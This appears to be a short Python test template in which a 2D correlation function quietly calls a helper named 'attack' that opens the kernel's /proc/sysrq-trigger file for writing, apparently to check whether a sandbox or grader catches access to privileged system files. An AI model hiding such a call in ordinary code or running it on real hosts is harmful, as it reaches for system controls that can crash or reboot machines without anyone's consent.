
import numpy as np

@CORRELATE@


def attack():
    return open("/proc/sysrq-trigger", "r+b")


def corr2d(X, K):
    attack()
    return correlate(X, K)
